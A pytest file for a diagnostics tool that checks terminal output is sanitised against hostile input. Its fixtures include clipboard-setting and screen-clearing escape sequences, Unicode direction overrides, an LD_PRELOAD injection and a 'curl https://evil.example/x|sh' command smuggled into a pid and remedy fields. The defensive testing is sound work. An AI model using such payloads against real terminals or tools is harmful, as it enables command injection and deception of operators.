"""What is shown cannot steer a terminal, and cannot pass for a line of ours."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest
from harness import REPOSITORY, environment
from hypothesis import given, settings
from hypothesis import strategies as st

from safelaunch import printable
from safelaunch.cli import diagnose
from safelaunch.codec import ShapeError, checked
from safelaunch.evidence.logs.prefixes import Habits, strip
from safelaunch.model import Case, Location, Settings, Verdict
from safelaunch.printable import line, quoted, whole
from safelaunch.report import banner, bundle
from safelaunch.report import verdict as terminal
from safelaunch.report.palette import ANSI
from safelaunch.run import redact

CASES = REPOSITORY / "tests" / "cases"

# What each does to a terminal, and what it would be after one pass of a stripper.
HOSTILE = {
    "a new line": "train.py\nerror[SL401]: rank 7 lied",
    "back to the begin of the line": "train.py\rerror[SL401]: rank 7 lied",
    "one line down": "train.py\x0berror[SL401]",
    "a new page": "train.py\x0cerror[SL401]",
    "NEL": "train.py\x85error[SL401]",
    "a separator of lines": "train.py\u2028error[SL401]",
    "a separator of paragraphs": "train.py\u2029error[SL401]",
    "the clipboard": "\x1b]52;c;Y3VybCBldmlsfHNo\x07",
    "the clipboard in C1": "\x9d52;c;Y3VybCBldmlsfHNo\x9c",
    "a title": "\x1b]0;root\x1b\\",
    "one sequence within another": "\x1b\x1b[0m[2J",
    "CSI in C1": "\x9b2J",
    "DCS": "\x1bPq#0\x1b\\",
    "backspace": "rank 1\b7",
    "DEL": "rank 1\x7f",
    "NUL": "rank\x001",
    "from right to left": "\u202egnp.exe",
    "an isolate": "\u2066a\u2069",
    "no width": "ra\u200bnk\ufeff",
    "a lone surrogate": "\udc80",
    "a tag": "\U000e0041",
    "a tab": "a\tb",
}


def clean(text: str) -> bool:
    return all(c.isprintable() for c in text)


def hostile_verdict(text: str) -> Verdict:
    return Verdict(
        code="SL401", slug="exception", kind="crash", summary=text, because=(text,), remedy=text, culprit_ranks=(1,),
        host=text, pid=7, location=Location(text, 3, text), traceback=f"Traceback\n{text}\n",
    )  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_a_verdict_is_clean_in_all_its_lines(text: str, tmp_path: Path) -> None:
    shown = terminal.lines(hostile_verdict(text), f"/run/{text}", exit_code=1)
    assert all(clean(one) for one in shown)
    assert [one for one in shown if one.startswith("error[")] == [shown[2 + len(text.splitlines())]]
    bundle.write_verdict(str(tmp_path), hostile_verdict(text))
    written = (tmp_path / "verdict.txt").read_text("utf-8")
    assert clean(written.replace("\n", ""))
    assert written.count("\nerror[") == 1


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_a_notice_is_one_clean_line(text: str) -> None:
    assert clean(whole("safelaunch: ", terminal.headline(hostile_verdict(text))))


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_a_variable_cannot_forge_another_one(text: str) -> None:
    nothing = Settings({}, {}, {})
    environ = {"A": f"1  # shell\nLD_PRELOAD=/evil.so  # profile default.toml:3{text}", f"B{text}": "2"}
    lines = redact.environment(nothing, environ)
    assert len(lines) == 2
    assert all(clean(one) and one.endswith("  # shell") for one in lines)


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_the_banner_is_clean(text: str) -> None:
    assert all(clean(one) for one in banner.lines(banner.Banner(0, (("run", text), (text, "x")), ())))


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_a_line_of_a_log_has_no_control_in_it(text: str) -> None:
    found = strip(f"[rank3]: {text.replace(chr(10), ' ')} ValueError", Habits())
    assert found.rank == 3
    assert not [c for c in found.text if not c.isprintable() and c not in "\t\udc80\u2028\u2029\U000e0041"]


def test_a_log_cannot_set_the_clipboard(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    log = tmp_path / "a.log"
    log.write_text(
        '[rank1]: Traceback (most recent call last):\n[rank1]:   File "/x/tr\x1b\x1b]52;c;QQ==\x07]52;c;QQ==\x07ain.py"'
        ", line 3, in f\x9b2Jg\n[rank1]:     x()\n[rank1]: ValueError: a\b\x7f\u202e\x1b]52;c;QQ==\x07\n"
    )
    diagnose.run([str(log), "--color", "never"])
    shown = capsys.readouterr().out
    assert "ValueError" in shown
    assert clean(shown.replace("\n", ""))


@settings(max_examples=300, deadline=None, derandomize=True, database=None)
@given(st.text(st.characters(), max_size=400))
def test_nothing_at_all_gets_through(text: str) -> None:
    for shown in (line(text), whole(text), line("a", line(text), text)):
        assert clean(shown)
    assert len(line(text)) <= printable.WIDTH
    assert clean("".join(printable.lines(text)))


def test_lines_stay_as_they_are_and_what_is_put_together_of_them_does_not() -> None:
    red = ANSI.paint("error", "bad\x1b[2J")
    assert red == "\x1b[1;31mbad\\x1b[2J\x1b[0m"
    assert line(red, ": \x07") == f"{red}: \\x07"
    assert "\x1b" not in line(f"{red}")
    with pytest.raises(ValueError, match="no colours"):
        printable.coloured("\x1b[2J", "x", "\x1b[0m")


@pytest.mark.parametrize("value", [*HOSTILE.values(), "it's $HOME", "", "a'\n\\'b"])
def test_a_shell_reads_what_was_quoted(value: str) -> None:
    if "\0" in value:
        pytest.skip("no variable holds one")
    shown = quoted(value)
    assert clean(shown)
    done = subprocess.run(["bash", "-c", f"printf %s {shown}"], capture_output=True, check=True)
    assert done.stdout == value.encode("utf-8", "surrogateescape")


def test_a_text_is_no_pid(tmp_path: Path) -> None:
    document = json.loads((CASES / "hang-stopped" / "case.json").read_text())
    for rank in document["ranks"]:
        rank["pid"] = "1; curl https://evil.example/x|sh"
    with pytest.raises(ShapeError, match="expected a whole number"):
        checked(Case, document)
    folder = tmp_path / "incident-0" / "evidence"
    folder.mkdir(parents=True)
    (folder / "case.json").write_text(json.dumps(document))
    command = [sys.executable, "-m", "safelaunch", "diagnose", str(folder.parent)]
    done = subprocess.run(command, env=environment(), capture_output=True, text=True, timeout=60)
    assert done.returncode == 2
    advice = [line for line in done.stderr.splitlines() if "help:" in line]
    assert advice
    assert not any("curl" in line for line in advice)


def test_the_advice_of_a_bundle_is_not_that_of_its_sender(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    evil = "`curl https://evil.example/x|sh`"
    document = json.loads((CASES / "exception-in-one-rank" / "case.json").read_text())
    for rank in document["ranks"]:
        if rank.get("error"):
            rank["error"]["known"] = {"name": "x", "role": "cause", "code": "SL401", "means": "m", "remedy": evil}
    folder = tmp_path / "incident-0"
    (folder / "evidence").mkdir(parents=True)
    (folder / "evidence" / "case.json").write_text(json.dumps(document))
    recorded = {"code": "SL501", "slug": "x", "kind": "slow", "summary": "s", "remedy": evil}
    for name in ("", "verdict.json"):
        if name:
            (folder / name).write_text(json.dumps(recorded))
        diagnose.run([str(folder)])
        shown = capsys.readouterr().out
        assert "[SL" in shown
        assert "curl" not in shown
